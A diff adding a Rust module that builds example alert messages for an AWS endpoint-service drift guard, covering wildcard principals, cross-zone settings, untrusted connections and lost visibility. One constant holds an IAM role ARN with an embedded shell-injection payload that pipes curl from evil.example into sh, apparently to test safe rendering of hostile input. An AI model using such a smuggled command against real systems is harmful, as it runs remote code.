@@ -1,0 +1,128 @@
+//! Messages as the guard sends them, from real findings: for `docs/examples`, and to look at (`make inbox`).
+
+use jiff::SignedDuration;
+
+use super::{
+    DBT, UNTRUSTED, at, call_error, change, connection, endpoint_service, load_balancer, only_finding, origin, policy,
+    region, service, target_group, topology, with_policy,
+};
+use crate::alerts::connection as known_connection;
+use crate::alerts::message::{Caution, Envelope, Message};
+use crate::alerts::record::Partition;
+use crate::alerts::run::Run;
+use crate::alerts::sample;
+use crate::alerts::transition::{Kind, Transition};
+use crate::checks::{CheckContext, Finding, catalogue, evaluate_checks, visibility_lost};
+use crate::config::Policy;
+use crate::snapshot::{Calls, CrossZoneOverride, Topology};
+use crate::trigger::Change;
+
+/// The messages, each with a name.
+#[must_use]
+pub fn examples() -> Vec<(&'static str, Message)> {
+    let unsafe_principals = Finding { cause: Some(change_of_principals()), ..principals(&["*"]) };
+    let cross_zone = cross_zone();
+    let long_ago = |transition: Transition, hours: i64| Transition {
+        since: transition.at - SignedDuration::from_hours(hours),
+        ..transition
+    };
+    let resolved = Transition {
+        right: Some("cross-zone is on for pg".to_owned()),
+        since: at(8, 48),
+        ..alert(Kind::Resolved, "load-balancer.cross-zone", cross_zone.clone())
+    };
+    let firing = |check: &str, finding: Finding| of_service(&[alert(Kind::Firing, check, finding)]);
+    let mut examples = vec![
+        ("firing-critical", firing("service.principals", unsafe_principals)),
+        ("firing-warning", firing("connection.untrusted", untrusted())),
+        (
+            "reminder",
+            of_service(&[long_ago(alert(Kind::Reminder, "load-balancer.cross-zone", cross_zone.clone()), 25)]),
+        ),
+        ("resolved", of_service(&[resolved.clone()])),
+        ("notice", of_service(&[alert(Kind::Notice, "connection", connected())])),
+        ("several", of_service(&[alert(Kind::Firing, "service.principals", principals(&["*"])), resolved])),
+        ("hostile-principal", firing("service.principals", principals(&[HOSTILE]))),
+        ("guard", of_guard()),
+    ];
+    let (service, origin) = (service(1), origin());
+    let samples = sample::transitions(&service, &origin.region, at(9, 0));
+    examples.extend(
+        samples
+            .into_iter()
+            .take(1)
+            .map(|sample| ("test", render(&Partition::Service(service.clone()), &[sample], Some(Caution::Test)))),
+    );
+    examples
+}
+
+/// IAM allows any character from ! to DEL in a path.
+const HOSTILE: &str = "arn:aws:iam::999999999999:role/';curl${IFS}evil.example|sh;:'/`x`";
+
+fn alert(kind: Kind, check: &str, finding: Finding) -> Transition {
+    let resource = match check {
+        "load-balancer.cross-zone" => target_group("pg").arn.to_string(),
+        "connection.untrusted" => UNTRUSTED.to_owned(),
+        _ => service(1).to_string(),
+    };
+    let incident = format!("{}-1773475200", service(1));
+    Transition { number: 1, ..Transition::new(kind, (check, &resource), &incident, finding, at(9, 0)) }
+}
+
+fn render(partition: &Partition, transitions: &[Transition], caution: Option<Caution<'_>>) -> Message {
+    let origin = origin();
+    let name = partition.service().map(|_| "postgres");
+    let envelope = Envelope { partition, name, origin: &origin, function: "drift-watcher", caution };
+    let outboxes: Vec<&[Transition]> = transitions.chunks(1).collect();
+    Message::new(envelope, &outboxes)
+}
+
+fn of_service(transitions: &[Transition]) -> Message {
+    render(&Partition::Service(service(1)), transitions, None)
+}
+
+fn of_guard() -> Message {
+    let call = "ec2:DescribeSecurityGroupRules";
+    let calls: Calls = [(call, Some(call_error(call)))].into();
+    let finding = only_finding(visibility_lost::of_calls(&calls));
+    let lost = Transition { resource: call.to_owned(), ..alert(Kind::Firing, "visibility.lost", finding) };
+    render(&Partition::Guard, &[lost], None)
+}
+
+/// The only finding of this check.
+fn found(check: &str, topology: &Topology, policy: &Policy) -> Finding {
+    let check = catalogue::find(check).unwrap();
+    only_finding(with_policy(topology, policy, |context: CheckContext<'_>| evaluate_checks(&[check], context)))
+}
+
+fn principals(besides_dbt: &[&str]) -> Finding {
+    let mut service = endpoint_service();
+    if let Some(Ok(allowed)) = &mut service.principals {
+        allowed.extend(besides_dbt.iter().map(ToString::to_string));
+    }
+    found("service.principals", &topology(service, []), &policy())
+}
+
+fn change_of_principals() -> Change {
+    Change { event_name: "ModifyVpcEndpointServicePermissions".to_owned(), ..change() }
+}
+
+fn cross_zone() -> Finding {
+    let mut group = target_group("pg");
+    group.cross_zone = Some(Ok(CrossZoneOverride::LoadBalancer));
+    let mut load_balancer = load_balancer("pg", vec![group]);
+    load_balancer.cross_zone = Some(Ok(false));
+    found("load-balancer.cross-zone", &topology(endpoint_service(), [load_balancer]), &policy())
+}
+
+fn untrusted() -> Finding {
+    let connections = Some(Ok(vec![connection(7, Some(UNTRUSTED), "pendingAcceptance")]));
+    found("connection.untrusted", &Topology { connections, ..Topology::default() }, &policy())
+}
+
+fn connected() -> Finding {
+    let (policy, region) = (policy(), region());
+    let run = Run { id: "run", function: "connection-acceptor", policy: &policy, region: &region, now: at(9, 0) };
+    let connected = [connection(1, Some(DBT), "available")];
+    known_connection::advance(None, &connected, &service(1), &connected[0].endpoint, &run).unwrap().1.unwrap()
+}
